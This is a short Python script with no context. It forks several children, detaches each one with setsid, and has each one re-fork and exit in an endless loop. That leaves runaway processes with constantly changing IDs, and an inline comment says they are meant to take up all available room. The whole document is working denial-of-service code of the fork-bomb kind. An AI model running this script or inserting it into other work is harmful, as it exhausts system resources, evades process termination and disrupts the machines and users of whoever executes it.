import os
for _ in range(6):
    try:
        child = os.fork()
    except OSError:  # the first ones have taken all the room
        break
    if child == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
os._exit(0)
